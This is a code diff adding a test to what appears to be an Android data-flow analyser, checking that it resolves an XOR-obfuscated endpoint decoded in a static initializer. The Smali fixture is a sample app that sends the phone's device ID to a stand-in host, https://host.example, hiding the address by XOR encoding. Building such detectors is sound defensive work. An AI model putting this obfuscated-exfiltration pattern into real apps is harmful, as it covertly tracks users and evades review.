@@ -234,3 +234,92 @@ def test_a_decoded_address_is_the_endpoint() -> None:
     assert [(f.data_type.partition(".")[0], f.endpoint) for f in flows] == [
         ("device_ids", "https://up.test/x?id={?}")
     ]
+
+
+INLINED = """
+.class Lt/G;
+.super Ljava/lang/Object;
+.field static final host:Ljava/lang/String;
+.field static final names:[Ljava/lang/String;
+.method static constructor <clinit>()V
+    .registers 6
+    const/16 v0, 0x14
+    new-array v0, v0, [I
+    fill-array-data v0, :numbers
+    new-instance v1, Ljava/lang/StringBuilder;
+    invoke-direct {v1}, Ljava/lang/StringBuilder;-><init>()V
+    const/4 v2, 0x0
+    array-length v3, v0
+    :again
+    if-ge v2, v3, :done
+    aget v4, v0, v2
+    xor-int/lit8 v4, v4, 0x7
+    int-to-char v4, v4
+    invoke-virtual {v1, v4}, Ljava/lang/StringBuilder;->append(C)Ljava/lang/StringBuilder;
+    add-int/lit8 v2, v2, 0x1
+    goto :again
+    :done
+    invoke-virtual {v1}, Ljava/lang/StringBuilder;->toString()Ljava/lang/String;
+    move-result-object v1
+    sput-object v1, Lt/G;->host:Ljava/lang/String;
+    const/4 v2, 0x2
+    new-array v2, v2, [Ljava/lang/String;
+    const/4 v3, 0x1
+    aput-object v1, v2, v3
+    const/4 v3, 0x0
+    const-string v4, "none"
+    aput-object v4, v2, v3
+    sput-object v2, Lt/G;->names:[Ljava/lang/String;
+    return-void
+    :numbers
+    .array-data 4
+        __NUMBERS__
+    .end array-data
+.end method
+.class public Lt/Main;
+.super Landroid/app/Activity;
+.method public constructor <init>()V
+    .registers 1
+    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
+    return-void
+.end method
+.method public onCreate(Landroid/os/Bundle;)V
+    .registers 5
+    __TAKEN__
+    new-instance v1, Ljava/net/URL;
+    invoke-direct {v1, v0}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
+    invoke-virtual {v1}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
+    move-result-object v1
+    invoke-virtual {v1}, Ljava/net/URLConnection;->getOutputStream()Ljava/io/OutputStream;
+    move-result-object v1
+    const-string v0, "phone"
+    invoke-virtual {p0, v0}, Lt/Main;->getSystemService(Ljava/lang/String;)Ljava/lang/Object;
+    move-result-object v0
+    check-cast v0, Landroid/telephony/TelephonyManager;
+    invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getDeviceId()Ljava/lang/String;
+    move-result-object v0
+    invoke-virtual {v0}, Ljava/lang/String;->getBytes()[B
+    move-result-object v0
+    invoke-virtual {v1, v0}, Ljava/io/OutputStream;->write([B)V
+    return-void
+.end method
+"""
+
+
+@pytest.mark.parametrize(
+    "taken",
+    [
+        pytest.param("sget-object v0, Lt/G;->host:Ljava/lang/String;", id="a text"),
+        pytest.param(
+            "sget-object v0, Lt/G;->names:[Ljava/lang/String;\n"
+            "    const/4 v1, 0x1\n    aget-object v0, v0, v1",
+            id="an element",
+        ),
+    ],
+)
+def test_a_decoder_inside_an_initializer_is_run(taken: str) -> None:
+    numbers = "\n        ".join(str(ord(c) ^ 7) for c in "https://host.example")
+    code = INLINED.replace("__NUMBERS__", numbers).replace("__TAKEN__", taken)
+    flows, _ = flows_of(code, knowledge())
+
+    assert {f.endpoint for f in flows} == {"https://host.example"}
